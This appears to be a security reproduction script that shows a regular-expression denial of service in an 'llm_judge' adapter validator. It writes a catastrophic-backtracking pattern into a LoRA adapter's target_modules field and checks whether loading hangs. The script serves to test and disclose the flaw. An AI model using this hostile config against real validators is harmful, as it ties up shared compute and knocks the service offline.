"""F1 in llm_judge: the same target_modules regex, re-read by peft 0.18 from adapter_config.json
in the validator's process (loading.load -> PeftModel.from_pretrained): CPU without bound.

Run: .venv-llm_judge/bin/python attack_repros/r1b_llm_judge_regex_hang.py
"""

import json
import multiprocessing as mp
import sys
import tempfile
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
EVIL = r"(?:.|.|.|.)*Z|.*_proj"


def load(base_dir: str, adapter: str) -> None:
    from modules.llm_judge import loading
    from modules.llm_judge.inspection import inspect_adapter
    from modules.llm_judge.submission import Submission

    facts = inspect_adapter(Path(adapter), "adapter_model.safetensors", Path(adapter).parent / "i")
    print("child accepted it; ranks", facts.ranks(), flush=True)
    loading.fetch_base_model = lambda name: Path(base_dir)  # the trusted base, locally
    sub = Submission(
        Path(adapter), "0" * 40, "tiny/base", None, facts.ranks(), tuple(facts.weights.listing)
    )
    loading.load(sub)
    print("loaded", flush=True)


def main() -> None:
    from devkit.tiny_models import build_model, make_lora, save_base

    tmp = Path(tempfile.mkdtemp())
    base = build_model("qwen2")
    base_dir = save_base(base, tmp / "base")
    adapter = tmp / "submission"
    make_lora(base, seed=0).save_pretrained(str(adapter))
    cfg = json.loads((adapter / "adapter_config.json").read_text())
    cfg.update(base_model_name_or_path="tiny/base", target_modules=EVIL)
    (adapter / "adapter_config.json").write_text(json.dumps(cfg))
    ctx = mp.get_context("spawn")
    proc = ctx.Process(target=load, args=(str(base_dir), str(adapter)))
    proc.start()
    proc.join(60)
    if proc.is_alive():
        proc.kill()
        print("VULNERABLE: still in peft's target_modules match in the parent after 60 s (killed)")


if __name__ == "__main__":
    main()
